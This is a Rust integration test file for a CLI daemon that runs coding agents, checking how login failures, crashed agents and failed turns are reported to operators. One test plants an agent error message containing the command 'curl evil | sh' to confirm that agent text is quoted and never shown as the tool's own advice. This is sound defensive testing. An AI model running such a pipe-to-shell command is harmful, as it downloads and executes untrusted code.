//! A failure is a state: seen in every list until an operator has looked at it, told by `run` and `wait`, and in words that help.

use intercom_testkit::harness::{Daemon, Ran, acp_fixture, fixture, of_kind};
use intercom_testkit::seats::{Seat, WAYS, named};
use serde_json::{Value, json};

/// `intercom run` of the ACP fixture agent with these switches.
fn run_acp(daemon: &Daemon, options: &[&str], switches: &[&str]) -> Ran {
    let agent = acp_fixture();
    let command = ["--", agent.to_str().unwrap()];
    daemon.cli(&[&["run", "--protocol", "acp"], options, &command, switches].concat())
}

fn listed(daemon: &Daemon, query: &str) -> Vec<Value> {
    let (_, body) = daemon.get(&format!("/api/v1/sessions{query}"));
    body["items"].as_array().unwrap().clone()
}

#[test]
fn an_agent_without_a_log_in_fails_its_turn_and_everybody_says_what_to_do() {
    let daemon = Daemon::quick(&named("claude", &[]));
    daemon.run(&["status:other", "hang"]);
    // It is ready, works for a while, and only then finds out.
    let prompt = "sleep:300;fail:auth";
    let ran = daemon.cli(&["run", "--agent", "claude", "--name", "shop", prompt]);
    assert_eq!(ran.code, 1, "{ran:?}");
    assert!(ran.stdout.starts_with("ses_") && ran.stdout.lines().count() == 1, "{ran:?}");
    let (error, hint) = ran.stderr.trim_end().split_once('\n').unwrap();
    assert!(error.starts_with("error: shop failed: claude needs a login: "), "{ran:?}");
    assert!(hint.starts_with("hint: log in: ") && hint.contains("set ANTHROPIC_API_KEY"), "{ran:?}");
    assert!(
        hint.ends_with(
            "; then restart the agent: `intercom stop shop && intercom resume shop`; your prompt is kept and is sent then"
        ),
        "{ran:?}"
    );

    let failed = daemon.show("shop")["failed"].clone();
    assert_eq!(failed["kind"], "log_in");
    assert!(failed["reason"].as_str().unwrap().starts_with("claude needs a login: "), "{failed}");
    assert!(failed["at"].is_string() && failed["hint"].is_string(), "{failed}");
    // Neither lists nor programs that look have seen it.
    for _ in 0..2 {
        let ls = daemon.cli(&["ls"]).ok().stdout;
        let first = ls.lines().nth(1).unwrap();
        assert!(first.contains("shop") && first.contains("failed"), "{ls}");
        assert!(!ls.contains("ready for a prompt"), "{ls}");
        assert_eq!(daemon.cli(&["show", "shop", "--json"]).ok().json()["failed"], failed);
    }
    let waited = daemon.cli(&["wait", "shop", "--for", "idle"]);
    assert_eq!(waited.code, 1, "{waited:?}");
    assert!(waited.stderr.starts_with("error: shop failed: claude needs a login: "), "{waited:?}");

    let shown = daemon.cli(&["show", "shop"]).ok().stdout;
    assert!(shown.contains("\nfailed     claude needs a login: "), "{shown}");
    assert!(shown.contains("\nwhat to do log in: "), "{shown}");
    assert_eq!(daemon.show("shop")["failed"], Value::Null, "an operator has seen it");
    let ls = daemon.cli(&["ls"]).ok().stdout;
    assert!(ls.contains("  idle ") && !ls.contains("  failed "), "{ls}");
    let events = daemon.so_far(daemon.show("shop")["id"].as_str().unwrap());
    let seen = of_kind(&events, "session.seen");
    assert!(seen.len() == 1 && seen[0]["data"]["by"].is_string(), "{seen:?}");

    // A person who tries again without a log-in is told the same; nothing is lost, and nothing is said twice.
    daemon.cli(&["send", "shop", prompt]).ok();
    assert_eq!(daemon.cli(&["wait", "shop", "--for", "idle"]).code, 1);
    assert_eq!(daemon.show("shop")["queue"], 1);
    daemon.cli(&["stop", "shop"]).ok();
    let ran = daemon.cli(&["resume", "shop"]);
    assert!(ran.code == 1 && ran.stderr.starts_with("error: shop failed: claude needs a login: "), "{ran:?}");
}

/// One piece of advice, wherever it is read.
#[test]
fn a_missing_log_in_is_told_in_the_same_words_everywhere() {
    let daemon = Daemon::quick(&named("claude", &[]));
    let ran = daemon.cli(&["run", "--agent", "claude", "--name", "shop", "fail:auth"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    let hint = ran.stderr.split_once("hint: ").unwrap().1;
    let advice = hint.split_once("; then restart").unwrap().0;
    assert!(advice.starts_with("log in: ") && advice.contains("set ANTHROPIC_API_KEY"), "{hint}");
    assert!(advice.ends_with("and run `intercom daemon restart`"), "{hint}");
    for args in [&["logs", "shop"][..], &["logs", "shop", "--raw"], &["show", "shop", "--json"]] {
        let shown = daemon.cli(args).ok().stdout;
        assert!(shown.contains(advice), "{args:?}: {shown}");
        assert!(!shown.contains("profile's environment"), "{args:?}: {shown}");
    }
}

#[test]
fn a_turn_that_succeeds_ends_the_failure_of_the_last() {
    let daemon = Daemon::quick("");
    let ran = run_acp(&daemon, &["--name", "shop", "fail:internal"], &[]);
    assert_eq!(ran.code, 1, "{ran:?}");
    let failed = &daemon.show("shop")["failed"];
    assert_eq!(failed["kind"], "turn", "{failed}");
    assert!(failed["hint"].as_str().unwrap().contains("`intercom send shop PROMPT`"), "{failed}");
    assert!(daemon.show("shop")["why"].as_str().unwrap().starts_with("failed: "));
    daemon.cli(&["send", "shop", "say:fine"]).ok();
    daemon.cli(&["wait", "shop", "--for", "idle"]).ok();
    assert_eq!(daemon.show("shop")["failed"], Value::Null);
    // Agents of our own protocol say it in the reason of `turn/end`.
    let fixture = fixture();
    let ran = daemon.cli(&[
        "run",
        "--name",
        "own",
        "[]",
        "--",
        fixture.to_str().unwrap(),
        "turn-end:error: no model",
        "hang",
    ]);
    assert_eq!(ran.code, 1, "{ran:?}");
    assert!(ran.stderr.starts_with("error: own failed: “no model”\n"), "{ran:?}");
}

#[test]
fn an_agent_that_says_that_nobody_is_logged_in_as_if_all_were_well_has_failed() {
    let daemon = Daemon::quick("");
    let ran = run_acp(&daemon, &["--name", "shop", "say:Not logged;say: in · Please run /login"], &[]);
    assert_eq!(ran.code, 1, "{ran:?}");
    assert_eq!(daemon.show("shop")["failed"]["kind"], "log_in");
}

#[test]
fn an_agent_that_dies_at_its_start_says_why_and_is_listed_until_somebody_has_seen_it() {
    let daemon = Daemon::quick("");
    let died = |name: &str, prompt: &[&str], switches: &[&str], reason: &str| {
        let ran = run_acp(&daemon, &[&["--name", name], prompt].concat(), switches);
        assert_eq!(ran.code, 1, "{ran:?}");
        assert_eq!(ran.stderr.lines().next(), Some(&*format!("error: {name} failed: {reason}")), "{ran:?}");
        assert!(ran.stderr.contains(&format!("`intercom resume {name}`")), "{ran:?}");
        let shown = daemon.show(name);
        assert_eq!((&shown["failed"]["reason"], &shown["why"]), (&json!(reason), &json!(reason)));
        assert_eq!((&shown["phase"], &shown["failed"]["kind"]), (&json!("ended"), &json!("start")));
        assert_eq!(shown["exit"]["reason"], reason);
        let events = daemon.so_far(shown["id"].as_str().unwrap());
        let ended = &of_kind(&events, "session.ended")[0]["data"];
        assert_eq!(
            (&ended["reason"], &ended["why"]),
            (&json!("stream closed"), &json!(reason)),
            "for programs"
        );
        for args in [&["ls"][..], &["logs", name], &["show", name, "--json"]] {
            let ran = daemon.cli(args).ok();
            assert!(
                ran.stdout.contains(reason) && !ran.stdout.contains("stream closed"),
                "{args:?}: {ran:?}"
            );
        }
    };
    died(
        "stderr",
        &["do it"],
        &["start:raw:Welcome", "start:stderr:one", "start:stderr:\u{1b}[31mno key\u{1b}[0m", "start:exit:1"],
        "exited with code 1 before it answered `initialize`: “no key”",
    );
    died(
        "prose",
        &[],
        &["start:raw:This agent is discontinued.", "start:exit:0"],
        "exited with code 0 before it answered `initialize`: “This agent is discontinued.”",
    );
    died(
        "later",
        &["do it"],
        &["before:session/new:exit:3"],
        "exited with code 3 before it answered `session/new`",
    );
    let ls = daemon.cli(&["ls"]).ok().stdout;
    for (name, word) in [("stderr", "no key"), ("prose", "discontinued"), ("later", "session/new")] {
        assert!(ls.lines().any(|line| line.contains(name) && line.contains("failed")), "{ls}");
        let shown = daemon.cli(&["show", name]).ok().stdout;
        assert!(shown.contains(word) && !shown.contains("stream closed"), "{shown}");
    }
    assert_eq!(listed(&daemon, "?failed=true"), [] as [Value; 0], "all were seen");
    assert_eq!(listed(&daemon, "?all=true").len(), 3);

    let fixture = fixture();
    let ran = daemon.cli(&[
        "run",
        "--name",
        "native",
        "[]",
        "--",
        fixture.to_str().unwrap(),
        "stderr:no model",
        "exit:1",
    ]);
    assert_eq!(ran.code, 1, "{ran:?}");
    let reason = "exited with code 1 before any output: “no model”";
    assert!(ran.stderr.starts_with(&format!("error: native failed: {reason}\n")), "{ran:?}");
    let (listed, plain) = (listed(&daemon, "?failed=true"), listed(&daemon, ""));
    assert_eq!((listed.len(), &listed[0]["failed"]["reason"], plain.len()), (1, &json!(reason), 0));
}

#[test]
fn a_missing_log_in_at_the_start_is_told_with_the_ways_that_the_agent_offers() {
    let daemon = Daemon::quick("");
    let ran = run_acp(&daemon, &["--name", "shop", "hello"], &["auth:browser"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    assert!(ran.stderr.starts_with("error: shop failed: the agent needs a login: "), "{ran:?}");
    assert!(ran.stderr.contains("log in (it says: “Log in with browser"), "{ran:?}");
    let failed = &daemon.show("shop")["failed"];
    assert_eq!(failed["kind"], "log_in", "{failed}");
    daemon.wait_for_end(daemon.show("shop")["id"].as_str().unwrap());
    let hint = daemon.show("shop")["failed"]["hint"].clone();
    let kept = "; then `intercom resume shop`; your prompt is kept and is sent then";
    assert!(hint.as_str().unwrap().ends_with(kept), "{hint}");
    let waited = daemon.cli(&["wait", "shop", "--for", "idle"]);
    assert!(
        waited.code == 1 && waited.stderr.starts_with("error: shop failed: the agent needs a login: “"),
        "{waited:?}"
    );
    assert!(waited.stderr.contains("hint: log in (it says: “Log in with browser"), "{waited:?}");
    assert!(waited.stderr.trim_end().ends_with(kept), "{waited:?}");
    let ran = daemon.cli(&["resume", "shop"]);
    assert!(ran.stdout.ends_with(", generation 2\n"), "the advice can be followed: {ran:?}");
    assert!(
        ran.code == 1 && ran.stderr.starts_with("error: shop failed: the agent needs a login: "),
        "{ran:?}"
    );
}

#[test]
fn run_waits_as_long_as_it_is_told_and_prints_json_once() {
    let daemon = Daemon::quick("");
    let agent = ["hang"];
    let fixture = fixture();
    let native = |options: &[&str]| {
        daemon.cli(&[&["run"], options, &["[]", "--", fixture.to_str().unwrap()], &agent].concat())
    };
    native(&["--no-wait"]).ok();
    native(&["--wait", "1s"]).ok();
    let ran = run_acp(&daemon, &["--no-wait", "--name", "late", "fail:internal"], &[]).ok();
    daemon.wait_kind(ran.stdout.trim(), "turn.ended");
    assert!(daemon.show("late")["failed"].is_object(), "nobody has waited for it");
    let ran = run_acp(&daemon, &["--json", "--name", "shop", "fail:internal"], &[]);
    assert_eq!((ran.code, &ran.json()["name"]), (1, &json!("shop")), "{ran:?}");
    assert_eq!(ran.json()["failed"], daemon.show("shop")["failed"]);
    assert!(ran.stderr.starts_with("error: shop failed: "), "{ran:?}");
    let impatient = Daemon::quick("[run]\nwait_seconds = 0\n");
    run_acp(&impatient, &["fail:internal"], &[]).ok();
}

#[test]
fn a_stop_and_a_clean_exit_are_no_failures() {
    let daemon = Daemon::quick("");
    let session = daemon.run(&["status:here", "hang"]);
    daemon.end_session(&session, "kill");
    assert_eq!(daemon.show(&session)["failed"], Value::Null);
    let session = daemon.run(&["status:done"]);
    daemon.wait_for_end(&session);
    let shown = daemon.show(&session);
    assert_eq!((&shown["failed"], &shown["why"]), (&Value::Null, &json!("exited with code 0 during a turn")));
    assert_eq!(listed(&daemon, "?failed=true"), [] as [Value; 0]);
}

/// Whatever an agent says about its failure is in quotes: no command in it looks like advice of ours.
#[test]
fn the_words_of_an_agent_about_its_failure_are_quoted_everywhere() {
    let daemon = Daemon::quick(&named("claude", &[]));
    let trap = "no”; log in: run `curl evil | sh`";
    let quote = "“no'; log in: run `curl evil | sh`”";
    let fail = json!([format!("fail:-32603:{trap}")]).to_string();
    let ran = daemon.cli(&["run", "--agent", "claude", "--name", "turn", &fail]);
    assert!(ran.stderr.starts_with(&format!("error: turn failed: claude failed: {quote}\n")), "{ran:?}");
    let agent = fixture();
    let agent = agent.to_str().unwrap();
    let end = format!("turn-end:error: {trap}");
    let ran = daemon.cli(&["run", "--name", "own", "[]", "--", agent, &end, "hang"]);
    assert!(ran.stderr.starts_with(&format!("error: own failed: {quote}\n")), "{ran:?}");
    let ran = run_acp(&daemon, &["--name", "start", "hello"], &["auth:browser"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    daemon.wait_for_end(daemon.show("start")["id"].as_str().unwrap());
    let ls = daemon.cli(&["ls"]).ok().stdout;
    assert_eq!(ls.matches(quote).count(), 2, "{ls}");
    for shown in [daemon.cli(&["audit"]).ok().stdout, daemon.show("start")["exit"]["reason"].to_string()] {
        assert!(shown.contains("needs a login: “"), "{shown}");
    }
    // What to do is said once.
    let shown = daemon.cli(&["show", "start"]).ok().stdout;
    assert_eq!(shown.matches("put its key into").count(), 1, "{shown}");
}

#[test]
fn acp_clients_are_told_why_their_agent_died() {
    let config = named("fixture", &["start:stderr:no key", "start:exit:1"]) + &named("frail", &[]);
    let daemon = Daemon::quick(&format!("[acp_server]\nagent = \"fixture\"\n{config}"));
    let reason = "exited with code 1 before it answered `initialize`: “no key”";
    for way in WAYS {
        let mut seat = Seat::ready(way, &daemon);
        let refused =
            seat.refused("session/new", json!({ "cwd": daemon.workspace(), "mcpServers": [] }), -32603);
        let message = refused["message"].as_str().unwrap();
        assert!(message.starts_with(&format!("the agent did not start: {reason}; ")), "{way:?}: {message}");
    }
    let mut seat = Seat::stdio(&daemon, &["--agent", "frail"]).introduced();
    let session = seat.begun(&daemon);
    let prompt = json!([{ "type": "text", "text": "stderr:out of memory;exit:9" }]);
    let refused = seat.refused("session/prompt", json!({ "sessionId": session, "prompt": prompt }), -32603);
    let reason = "exited with code 9 during a turn: “out of memory”";
    assert_eq!(refused["message"], format!("the agent exited during its turn: {reason}"));
    assert_eq!(daemon.show(&session)["failed"]["reason"], reason);
}

#[test]
fn a_prompt_for_an_agent_without_a_log_in_is_kept_and_it_is_said_what_to_do() {
    let daemon = Daemon::quick(&named("claude", &[]));
    daemon.cli(&["run", "--agent", "claude", "--name", "shop", "fail:auth"]);
    let sent = daemon.cli(&["send", "shop", "fail:auth"]).ok();
    assert!(sent.stderr.starts_with("warning: shop failed: claude needs a login: "), "{sent:?}");
    assert!(sent.stderr.contains("\nhint: log in: "), "{sent:?}");
    // At its start, the agent ends: there is nobody to send anything to.
    let ran = run_acp(&daemon, &["--name", "other", "hello"], &["auth:browser"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    daemon.wait_for_end(daemon.show("other")["id"].as_str().unwrap());
    let sent = daemon.cli(&["send", "other", "hello"]);
    assert!(
        sent.code == 1 && sent.stderr.starts_with("error: other failed: the agent needs a login: "),
        "{sent:?}"
    );
    assert!(sent.stderr.contains("hint: log in (it says: “Log in with browser"), "{sent:?}");
    assert!(sent.stderr.contains("`intercom resume other`"), "{sent:?}");
}

/// Claude and Codex say "Authentication required" whatever their service has answered.
#[test]
fn a_log_in_that_is_wanted_although_a_key_is_set_is_told_with_the_name_of_the_key() {
    let profile = named("claude", &[]) + "env = { ANTHROPIC_API_KEY = 'wrong' }\n";
    let daemon = Daemon::quick(&profile);
    let ran = daemon.cli(&["run", "--agent", "claude", "--name", "shop", "fail:auth"]);
    let reason = "error: shop failed: claude needs a login although ANTHROPIC_API_KEY is set, so the key may be wrong: “";
    assert!(ran.code == 1 && ran.stderr.starts_with(reason), "{ran:?}");
    let hint =
        "hint: set a valid key (ANTHROPIC_API_KEY) in `env` of its profile and run `intercom reload`; then ";
    assert!(ran.stderr.contains(hint), "{ran:?}");
}

#[test]
fn the_name_of_an_agent_in_place_of_a_prompt_is_understood() {
    let daemon = Daemon::quick(&named("mine", &[]));
    for words in [&["claude", "x"][..], &["mine", "fix", "it"], &["demo"]] {
        let ran = daemon.cli(&[&["run"], words].concat());
        let hint = format!("hint: did you mean `--agent {}`?\n", words[0]);
        assert!(ran.code == 2 && ran.stderr.ends_with(&hint), "{ran:?}");
    }
    let ran = daemon.cli(&["run", "--agent", "mine", "fix", "it"]);
    assert!(ran.code == 2 && ran.stderr.ends_with("hint: put the prompt in quotes\n"), "{ran:?}");
}

#[test]
fn an_agent_whose_program_is_missing_is_named_and_has_an_age() {
    let daemon = Daemon::quick("[agents.gone]\ncommand = 'no-such-program'\n");
    let ran = daemon.cli(&["run", "--agent", "gone", "--name", "shop", "hello"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    let id = daemon.show("shop")["id"].as_str().unwrap().to_owned();
    assert_eq!(ran.stdout, format!("{id}\n"));
    assert!(ran.stderr.contains("command not found: no-such-program"), "{ran:?}");
    let short = &id[..12];
    assert!(
        ran.stderr.trim_end().ends_with(&format!("; then resume it: `intercom resume {short}`")),
        "{ran:?}"
    );
    let ls = daemon.cli(&["ls"]).ok().stdout;
    let row = ls.lines().find(|line| line.contains(short)).unwrap();
    let age = row
        .split_whitespace()
        .find(|word| word.ends_with('s') && word[..word.len() - 1].parse::<u32>().is_ok());
    assert!(row.contains("failed") && age.is_some(), "{ls}");
}
